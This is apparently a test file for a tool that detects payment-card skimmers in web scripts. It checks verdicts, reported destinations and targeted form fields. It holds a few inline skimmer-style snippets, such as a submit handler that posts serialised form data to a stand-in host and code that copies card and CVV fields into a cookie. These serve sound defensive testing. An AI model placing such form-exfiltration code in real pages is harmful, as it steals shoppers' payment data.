import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import fc from 'fast-check'
import { readFile } from 'node:fs/promises'
import { createRequire } from 'node:module'
import { isShort, runs, some } from '#test/data/runs.ts'
import { combinations } from '#test/data/skimmers/combinations.ts'
import { disguises, unseen } from '#test/data/skimmers/disguises.ts'
import { sameSite } from '#test/data/skimmers/same-site.ts'
import { routes, waitingCode } from '#test/data/skimmers/routes.ts'
import { skimmerHost } from '#test/data/skimmers/skimmer.ts'
import { ways } from '#test/data/skimmers/ways.ts'
import { analyse } from './analyse.ts'
import { inventoryOf } from './report.ts'

const reportOf = async (code: string) =>
  (await analyse({ name: 'script.js', bytes: new TextEncoder().encode(code) }, () => undefined)).report

describe('recognises a skimmer and where it sends, whatever its disguise', () => {
  for (const [name, make] of some(disguises)) {
    test(name, async () => {
      const report = await reportOf(await make())
      assert.equal(report.skimmer.verdict, 'likely', JSON.stringify(report.run))
      const hosts = report.destinations.map(({ host }) => host)
      assert.ok(hosts.includes(skimmerHost), hosts.join())
    })
  }
})

describe('never clears a skimmer, however it reads and sends', () => {
  for (const [name, code] of some([...ways, ...routes]))
    test(name, async () => assert.notEqual((await reportOf(code)).skimmer.verdict, 'none'))

  for (const start of [
    'jQuery(function ($) {',
    'jQuery(document).ready(function ($) {',
    'require(["quote", "jquery"], function (q, $) {',
  ])
    test(`accuses what sends a form in ${start}`, async () => {
      const code =
        '$("#order").on("submit", function () { $.ajax({ url: "https://x.invalid/s", data: $("form").serialize() }) }) })'
      assert.equal((await reportOf(start + code)).skimmer.verdict, 'likely')
    })

  test('after a comment that scripts and pages read differently', async () => {
    const [, code] = ways.find(([name]) => name === 'keylogger by e.key')!
    for (const text of [`<!-- shop --><script>${code}</script>`, `<!-- --><script>1</script>\n${code}`])
      assert.equal((await reportOf(text)).skimmer.verdict, 'some')
  })
})

describe('never clears a skimmer that leaves the data on the site, and shows the fields that it picks', () => {
  for (const [name, code, holds] of some(sameSite))
    test(name, async () => {
      const { skimmer, fields } = await reportOf(code)
      assert.notEqual(skimmer.verdict, 'none')
      if (holds !== undefined)
        assert.ok(
          fields.some((field) => field.holds === holds && field.isRead),
          JSON.stringify(fields),
        )
    })

  for (const { name, code, shown } of combinations(isShort ? 2 : 17))
    test(name, async () => {
      const { skimmer, fields } = await reportOf(code)
      assert.notEqual(skimmer.verdict, 'none')
      const selectors = fields.map(({ selector }) => selector)
      for (const text of shown)
        assert.ok(
          selectors.some((selector) => selector.includes(text)),
          `${text} is not in ${selectors.join()}`,
        )
    })

  test('names what is compared as a selector', async () => {
    const code = `document.forms[0].onsubmit = (e) => { for (const i of e.target.elements)
      if (i.type !== "checkbox" && (i.maxLength === 19 || /^pan$/.test(i.name)) && i.id.includes("cvv")) document.cookie = i.value }`
    assert.deepEqual(
      (await reportOf(code)).fields.map(({ selector }) => selector),
      ['[maxlength="19"]', '[name=/^pan$/]', '[id*="cvv"]'],
    )
  })
})

const { resolve } = createRequire(import.meta.url)

describe('never clears what waits in a large script for something that the sandbox does not have', async () => {
  const library = await readFile(resolve('topojson-client'), 'utf8')
  test('the library alone', async () => assert.equal((await reportOf(library)).skimmer.verdict, 'none'))
  for (const [name, code] of some(waitingCode))
    test(name, async () => assert.equal((await reportOf(`${library}\n;${code}`)).skimmer.verdict, 'unknown'))
})

describe('never calls a library a skimmer', () => {
  for (const name of [
    '@tanstack/query-core',
    '@fingerprintjs/fingerprintjs',
    '@thumbmarkjs/thumbmarkjs',
    'topojson-client',
    'd3-geo',
    'clientjs',
    'fingerprintjs2',
  ]) {
    test(name, async () => {
      const { skimmer } = await reportOf(await readFile(resolve(name), 'utf8'))
      assert.match(skimmer.verdict, /^(?:none|unknown)$/, JSON.stringify(skimmer))
    })
  }

  test('one that reads forms, encodes names, knows F12 and loads pictures, as React and d3 together', async () => {
    const code = `export const read = (form, button) => new FormData(form, button)
      export const nameOf = (text) => "r-" + btoa(text).replace(/=/g, "")
      export const keys = { 122: "F11", 123: "F12" }
      export const load = (address) => { const image = new Image(); image.src = address; return image }`
    assert.equal((await reportOf(code)).skimmer.verdict, 'some')
  })

  test('one that sends to the page’s own site, with an empty form', async () => {
    const code = 'const f = new FormData(); f.append("a", 1); fetch(location.origin + "/x", { body: f })'
    assert.equal((await reportOf(code)).skimmer.verdict, 'none')
  })
})

describe('reports only what is in the script', () => {
  for (const [name, code] of [
    ['the page of the run', 'fetch(location.href)'],
    ['nothing in place of an address', 'const c = {}; fetch("https://" + c.host + "/x")'],
    [
      'a method in place of an address',
      'window.get = (u) => { const x = new XMLHttpRequest(); x.open("GET", u); x.send() }',
    ],
  ] as const)
    test(name, async () => {
      const { destinations, skimmer } = await reportOf(code)
      const texts = [...destinations.map(({ address = '' }) => address), ...(skimmer.unseen ?? [])]
      for (const text of texts) assert.doesNotMatch(text, /shop\.example|undefined|\bGET\b/)
    })

  test('one field that it is given is not every field', async () => {
    const code =
      'window.length = (input) => { input.title = input.value.length }; document.addEventListener("input", (e) => length(e.target))'
    const { fields, skimmer } = await reportOf(code)
    assert.ok(!fields.some(({ holds }) => holds?.startsWith('Every')), JSON.stringify(fields))
    assert.ok(!skimmer.signs.some(({ id }) => id === 'every'))
  })

  test('the vendor of what it loads, by its whole host', async () => {
    const load = (address: string) =>
      reportOf(`const s = document.createElement("script"); s.src = "${address}"; document.head.append(s)`)
    const { skimmer } = await load('https://js.stripe.com/v3/')
    assert.deepEqual(skimmer.unseen, ['It loads Stripe that is not here: https://js.stripe.com/v3/.'])
    const other = await load('https://js.stripe.com.evil.example/v3/')
    assert.match(other.skimmer.unseen![0]!, /^It loads code /)
  })
})

describe('never clears a script of which something was not seen', () => {
  for (const [name, code] of some(unseen)) {
    test(name, async () => {
      const report = await reportOf(code)
      assert.equal(report.skimmer.verdict, 'unknown')
      const line = inventoryOf(report, new Date())
      assert.equal(line.skimmer, 'could not be judged')
      assert.notEqual(line.not_seen, '')
    })
  }

  test('a page that loads another script beside its own', async () => {
    const page = '<!doctype html><script>1</script><script src="https://cdn.example/a.js"></script>'
    const { skimmer, destinations } = await reportOf(page)
    assert.equal(skimmer.verdict, 'unknown')
    assert.deepEqual(
      destinations.map(({ kind, host }) => [kind, host]),
      [['script', 'cdn.example']],
    )
  })

  test('a page whose form goes elsewhere', async () => {
    const { skimmer } = await reportOf('<form action="https://pay.invalid/"><input name=cardnumber></form>')
    assert.equal(skimmer.verdict, 'some')
  })

  test('a skimmer cut off anywhere', async () => {
    const code = await disguises[0]![1]()
    const cut = fc.integer({ min: code.indexOf('(') + 1, max: code.length - 4 })
    await fc.assert(
      fc.asyncProperty(cut, async (end) => {
        const report = await reportOf(code.slice(0, end)).catch(() => undefined)
        assert.notEqual(report?.skimmer.verdict, 'none')
      }),
      { numRuns: runs(20) },
    )
  })
})

describe('clears what was seen in full and takes no card data', () => {
  for (const code of [
    'console.log(navigator.language)',
    'new Image().src = "data:image/gif;base64,R0lGODlhAQABAAAAACw="',
    'document.querySelector("#menu").addEventListener("click", function () { this.classList.toggle("open") })',
    'navigator.sendBeacon("https://stats.example/v", screen.width + navigator.userAgent)',
    'if (window.Worker) console.log(typeof eval)',
    'document.addEventListener("keydown", (event) => { if (event.key === "Escape") document.querySelector("#menu").hidden = true })',
    'document.querySelector("#q").addEventListener("input", (event) => fetch("/search?q=" + document.querySelector("#q").value))',
    'document.body.style.backgroundImage = "url(https://cdn.example/a.png)"',
    'navigator.sendBeacon("https://stats.example/e", JSON.stringify({ u: location.href, t: document.title, w: screen.width }))',
    'const d = { page: location.pathname }; d.from = document.referrer; navigator.sendBeacon("https://stats.example/e", JSON.stringify(d))',
    'document.querySelector(".share").href = "https://social.example/share?u=" + encodeURIComponent(location.href)',
    'const fail = (code) => { throw new Error("https://docs.example/errors/" + code) }; if (!window.Promise) fail(1)',
    'document.querySelectorAll("img[data-src]").forEach((img) => { img.src = img.dataset.src })',
    'document.querySelector("#join").onclick = () => fetch("/join", { method: "POST", body: document.querySelector("#email").value })',
    'document.body.insertAdjacentHTML("beforeend", \'<a href="https://partner.example">Partner</a>\')',
    'document.forms[0].addEventListener("submit", (event) => { for (const field of document.querySelectorAll(".field")) if (!field.value) event.preventDefault() })',
    'document.querySelector("#note").addEventListener("input", function () { localStorage.setItem("draft", document.querySelector("#note").value) })',
    'addEventListener("keydown", (event) => { if (event.key === "/") document.querySelector("#q").focus() }); fetch("/me?p=" + location.pathname)',
    'for (const field of document.querySelectorAll("textarea")) field.rows = 3; localStorage.setItem("seen", "1")',
    'const load = (img) => { img.src = img.getAttribute("data-lazy") }; document.querySelectorAll("img").forEach(load)',
    'export const home = "https://project.example/"; export const size = (box) => box.value * 2; document.querySelector("#box")',
    'window.mask = (input) => { input.value = input.value.replace(/ /g, ""); return input }; document.addEventListener("input", (event) => mask(event.target))',
    'if (!JSON.parse(localStorage.seen).done) (Function("return this")() || window).localStorage.seen = JSON.stringify({ done: 1 })',
    'class A { copy() { return new this.constructor(this.a) } } window.a = new A().copy()',
  ]) {
    test(code, async () => {
      const { skimmer } = await reportOf(code)
      assert.equal(skimmer.verdict, 'none', JSON.stringify(skimmer))
      assert.deepEqual(skimmer.proof?.unseen, [])
    })
  }
})
